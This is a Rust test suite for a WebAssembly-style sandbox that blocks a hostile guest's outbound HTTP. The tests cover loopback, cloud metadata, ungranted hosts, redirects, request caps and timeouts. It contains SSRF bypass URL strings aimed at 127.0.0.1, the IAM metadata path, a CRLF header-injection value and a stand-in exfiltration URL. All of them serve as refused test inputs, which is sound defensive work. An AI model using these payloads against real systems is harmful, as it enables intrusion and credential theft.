//! Outbound HTTP from a guest, against real HTTP servers on loopback: what is
//! declared and granted is reached with the credential the host injects; everything
//! else — undeclared hosts, ungranted ones, loopback, names resolving to loopback,
//! the cloud metadata address, redirects to it — is refused as a value the guest
//! handles, and never reaches the network. Caps and time budgets hold.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers may fail loudly
use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use airlock_host::runtime::{CallError, CallRequest, Component, Entry, Grants, Limits, Runtime};
use airlock_tests::guests;
use airlock_tests::upstream::TestServer;
use hmac::{Hmac, Mac};
use serde_json::{Value, json};

fn hostile(limits: Limits) -> (Runtime, Component) {
    airlock_tests::load_guest(guests::HOSTILE, limits)
}

fn grants(hosts: &[&str], networks: &[&str], secrets: &[(&str, &str)]) -> Grants {
    Grants {
        outbound_hosts: hosts.iter().map(|s| s.to_string()).collect(),
        private_networks: networks.iter().map(|n| n.parse().unwrap()).collect(),
        secrets: secrets
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect::<BTreeMap<_, _>>(),
    }
}

/// Runs the hostile guest's `http` action; returns its per-request outcomes.
fn http(component: &Component, grants: Grants, input: Value) -> Vec<Value> {
    let (outputs, captured) = component
        .invoke("http", &input.to_string(), "{}", grants)
        .unwrap();
    // Whatever happened, no secret reaches the guest's logs.
    for l in &captured.logs {
        assert!(!l.message.contains("s3cret"), "{}", l.message);
    }
    serde_json::from_slice::<Vec<Value>>(&outputs[0].body).unwrap()
}

fn loopback_grants() -> Grants {
    grants(
        &["http://127.0.0.1:*"],
        &["127.0.0.1/32"],
        &[("token", "s3cret")],
    )
}

#[test]
fn a_granted_host_is_reached_with_the_credential_the_host_injects() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    let out = http(
        &component,
        loopback_grants(),
        json!({"url": server.url("/ping?x=1"), "method": "POST", "body": "hello",
               "headers": {"Authorization": "Bearer forged-by-guest", "X-Trace": "t1"}}),
    );
    assert_eq!(out[0]["status"], 200, "{out:?}");
    assert_eq!(out[0]["body"], "pong");
    assert!(
        out[0]["headers"]
            .as_array()
            .unwrap()
            .contains(&json!(["x-upstream", "yes"])),
        "{out:?}"
    );
    assert!(!out[0].to_string().contains("s3cret"));
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    let req = &seen[0];
    assert_eq!(
        (req.method.as_str(), req.path.as_str()),
        ("POST", "/ping?x=1")
    );
    assert_eq!(req.body, b"hello");
    // The host's credential replaced the guest's attempt; the guest's other headers pass.
    assert_eq!(req.header("authorization"), vec!["Bearer s3cret"]);
    assert_eq!(req.header("x-trace"), vec!["t1"]);
}

#[test]
fn an_hmac_credential_signs_the_body_over_ipv6_loopback() {
    let server = TestServer::start("[::1]:0");
    let (_rt, component) = hostile(Limits::default());
    let out = http(
        &component,
        grants(&["http://[::1]:*"], &["::1/128"], &[("signing_key", "k3y")]),
        json!({"url": server.url("/hook"), "method": "POST", "body": "{\"a\":1}"}),
    );
    assert_eq!(out[0]["status"], 200, "{out:?}");
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(b"k3y").unwrap();
    mac.update(b"{\"a\":1}");
    let expected: String = mac
        .finalize()
        .into_bytes()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(
        server.seen()[0].header("x-signature"),
        vec![expected.as_str()]
    );
}

#[test]
fn loopback_is_refused_unless_its_network_is_granted() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    let out = http(
        &component,
        grants(&["http://127.0.0.1:*"], &[], &[("token", "s3cret")]),
        json!({"url": server.url("/")}),
    );
    assert_eq!(out[0]["error"], "denied", "{out:?}");
    assert!(
        out[0]["message"].as_str().unwrap().contains("loopback"),
        "{out:?}"
    );
    assert!(server.seen().is_empty(), "nothing reached the server");
}

#[test]
fn a_declared_name_that_resolves_to_loopback_is_refused_after_resolution() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    let url = format!("http://localhost:{}/", server.addr.port());
    let out = http(
        &component,
        grants(&["http://localhost:*"], &[], &[]),
        json!({ "url": url }),
    );
    assert_eq!(out[0]["error"], "denied", "{out:?}");
    let message = out[0]["message"].as_str().unwrap();
    assert!(
        message.contains("resolves only to refused addresses") && message.contains("loopback"),
        "{message}"
    );
    assert!(server.seen().is_empty());
}

#[test]
fn the_cloud_metadata_address_is_refused_even_when_declared_and_granted() {
    let (_rt, component) = hostile(Limits::default());
    let started = Instant::now();
    let out = http(
        &component,
        grants(&["http://169.254.169.254"], &["127.0.0.0/8"], &[]),
        json!({"url": "http://169.254.169.254/latest/meta-data/iam/"}),
    );
    assert_eq!(out[0]["error"], "denied", "{out:?}");
    assert!(
        out[0]["message"]
            .as_str()
            .unwrap()
            .contains("cloud metadata"),
        "{out:?}"
    );
    // Refused before any connection attempt (which would hang until the timeout).
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[test]
fn undeclared_hosts_and_ungranted_ones_are_refused_without_a_lookup() {
    let (_rt, component) = hostile(Limits::default());
    let everything = grants(
        &[
            "http://127.0.0.1:*",
            "http://localhost:*",
            "http://169.254.169.254",
        ],
        &[],
        &[],
    );
    let out = http(
        &component,
        everything.clone(),
        json!({"url": "http://exfiltrate.invalid/steal"}),
    );
    assert_eq!(out[0]["error"], "denied");
    assert!(
        out[0]["message"].as_str().unwrap().contains("not among"),
        "{out:?}"
    );
    // Declared by the manifest, but the admin did not grant it.
    let out = http(
        &component,
        everything,
        json!({"url": "https://example.com/"}),
    );
    assert_eq!(out[0]["error"], "denied");
    assert!(
        out[0]["message"].as_str().unwrap().contains("not granted"),
        "{out:?}"
    );
    // Nothing granted: nothing reachable.
    let out = http(
        &component,
        Grants::default(),
        json!({"url": "http://127.0.0.1:9/"}),
    );
    assert_eq!(out[0]["error"], "denied");
}

#[test]
fn a_url_is_connected_to_the_host_it_was_judged_by() {
    // The hostile vendor's finding: granted `http://*.allowed.test:*` (and the
    // loopback network, so only the host check stands between), the guest sent
    // `http://127.0.0.1:PORT\.allowed.test:PORT/`, which a split at `/ ? #` reads
    // as a host under allowed.test and the HTTP client as 127.0.0.1.
    let server = TestServer::start("127.0.0.1:0");
    let port = server.addr.port();
    let (_rt, component) = hostile(Limits::default());
    let grants = || grants(&["http://*.allowed.test:*"], &["127.0.0.1/32"], &[]);
    for url in [
        format!("http://127.0.0.1:{port}\\.allowed.test:{port}/"),
        format!("http://127.0.0.1:{port}\\@x.allowed.test:{port}/"),
        format!("http://x.allowed.test@127.0.0.1:{port}/"),
        format!("http://127.0.0.1:{port}%2F.allowed.test:{port}/"),
        format!("http://0x7f.1:{port}\\.allowed.test/"),
    ] {
        let out = http(&component, grants(), json!({"url": url}));
        let error = out[0]["error"].as_str().unwrap_or_default();
        assert!(
            error.starts_with("denied") || error.starts_with("invalid"),
            "{url}: {out:?}"
        );
    }
    assert!(server.seen().is_empty(), "a request reached 127.0.0.1");
}

#[test]
fn a_redirect_is_handed_back_not_followed() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    let out = http(
        &component,
        loopback_grants(),
        json!({"url": server.url("/redirect")}),
    );
    assert_eq!(out[0]["status"], 302, "{out:?}");
    assert_eq!(server.seen().len(), 1);
}

#[test]
fn malformed_requests_are_invalid_and_reserved_headers_are_the_hosts() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    for (input, says) in [
        (
            json!({"url": "not a url"}),
            "not a usable http or https URL",
        ),
        (
            json!({"url": server.url("/"), "headers": {"Host": "internal.example"}}),
            "set by the host",
        ),
        (
            json!({"url": server.url("/"), "headers": {"X-Bad": "a\r\nInjected: 1"}}),
            "not a valid HTTP header",
        ),
        (
            json!({"url": server.url("/"), "method": "CONNECT"}),
            "not a supported HTTP method",
        ),
    ] {
        let out = http(&component, loopback_grants(), input.clone());
        assert_eq!(out[0]["error"], "invalid", "{input}: {out:?}");
        assert!(
            out[0]["message"].as_str().unwrap().contains(says),
            "{input}: {out:?}"
        );
    }
    assert!(server.seen().is_empty());
}

#[test]
fn a_credential_whose_secret_is_missing_is_denied() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits::default());
    let out = http(
        &component,
        grants(&["http://127.0.0.1:*"], &["127.0.0.1/32"], &[]),
        json!({"url": server.url("/")}),
    );
    assert_eq!(out[0]["error"], "denied", "{out:?}");
    assert!(out[0]["message"].as_str().unwrap().contains("`token`"));
    assert!(server.seen().is_empty());
}

#[test]
fn request_count_and_response_size_are_capped() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits {
        max_http_requests: 3,
        max_http_response_bytes: 1024,
        ..Limits::default()
    });
    let out = http(
        &component,
        loopback_grants(),
        json!({"url": server.url("/small"), "times": 5}),
    );
    let statuses: Vec<&Value> = out.iter().map(|o| &o["status"]).collect();
    assert_eq!(&statuses[..3], &[&json!(200), &json!(200), &json!(200)]);
    assert_eq!(out[3]["error"], "limit-exceeded", "{out:?}");
    assert_eq!(out[4]["error"], "limit-exceeded");
    assert_eq!(server.seen().len(), 3);

    let out = http(
        &component,
        loopback_grants(),
        json!({"url": server.url("/big")}),
    );
    assert_eq!(out[0]["error"], "limit-exceeded", "{out:?}");
    assert!(
        out[0]["message"]
            .as_str()
            .unwrap()
            .contains("larger than 1024 bytes")
    );
}

#[test]
fn a_slow_upstream_times_out_within_the_requested_timeout_and_the_call_budget() {
    let server = TestServer::start("127.0.0.1:0");
    let (_rt, component) = hostile(Limits {
        wall_clock: Duration::from_millis(600),
        ..Limits::default()
    });
    // The guest's own timeout.
    let started = Instant::now();
    let out = http(
        &component,
        loopback_grants(),
        json!({"url": server.url("/slow"), "timeout_ms": 200}),
    );
    assert_eq!(out[0]["error"], "timeout", "{out:?}");
    assert!(started.elapsed() < Duration::from_millis(2500));
    // A longer timeout is capped at what is left of the 600 ms wall clock: the
    // request gives up when the budget does, instead of waiting the 3 s the upstream
    // takes. Then either the guest returns the timeout as a value at once, or the
    // next epoch check finds the budget spent (`WallClockTimeout`): both are right,
    // which one happens is a race of a few microseconds.
    let started = Instant::now();
    let outcome = component.invoke(
        "http",
        &json!({"url": server.url("/slow"), "timeout_ms": 60000}).to_string(),
        "{}",
        loopback_grants(),
    );
    match outcome {
        Ok((outputs, _)) => {
            let out: Vec<Value> = serde_json::from_slice(&outputs[0].body).unwrap();
            assert_eq!(out[0]["error"], "timeout", "{out:?}");
        }
        Err(err) => assert!(matches!(err, CallError::WallClockTimeout { .. }), "{err:?}"),
    }
    assert!(started.elapsed() < Duration::from_millis(2500));
}

fn call(component: &Component, action: &str, input: Value) -> Result<Value, CallError> {
    component
        .call(CallRequest::local(
            Entry::Invoke {
                action,
                input: &input.to_string(),
            },
            "{}",
        ))
        .map(|done| serde_json::from_slice(&done.outputs[0].body).unwrap())
}

#[test]
fn time_blocked_in_the_host_counts_against_the_wall_clock_not_the_cpu_deadline() {
    let (_rt, component) = hostile(Limits {
        cpu_deadline: Duration::from_millis(200),
        wall_clock: Duration::from_secs(5),
        ..Limits::default()
    });
    // Sleeping 400 ms is more than the CPU deadline, but it is not guest execution.
    assert_eq!(
        call(&component, "sleep", json!({"ms": 400})).unwrap(),
        json!({"slept": 400})
    );
    // Spinning after a sleep is stopped by the CPU deadline, counted without the sleep.
    let started = Instant::now();
    let err = call(&component, "sleep", json!({"ms": 300, "then_spin": true})).unwrap_err();
    assert!(matches!(err, CallError::Timeout { .. }), "{err:?}");
    assert!(started.elapsed() >= Duration::from_millis(500));

    // A sleep that would outlast the wall clock fails at once, as a value.
    let (_rt, component) = hostile(Limits {
        wall_clock: Duration::from_millis(300),
        ..Limits::default()
    });
    let started = Instant::now();
    let out = call(&component, "sleep", json!({"ms": 10_000})).unwrap();
    assert_eq!(out["error"], "timeout", "{out}");
    assert!(started.elapsed() < Duration::from_millis(250));
}

#[test]
fn a_guest_spinning_past_the_wall_clock_gets_a_wall_clock_timeout() {
    let (_rt, component) = hostile(Limits {
        cpu_deadline: Duration::from_secs(10),
        wall_clock: Duration::from_millis(300),
        ..Limits::default()
    });
    let started = Instant::now();
    let err = call(&component, "spin", json!({})).unwrap_err();
    assert!(
        matches!(err, CallError::WallClockTimeout { limit } if limit == Duration::from_millis(300)),
        "{err:?}"
    );
    assert_eq!(err.kind(), "wall_clock_timeout");
    assert!(started.elapsed() < Duration::from_millis(300 + 500));
}
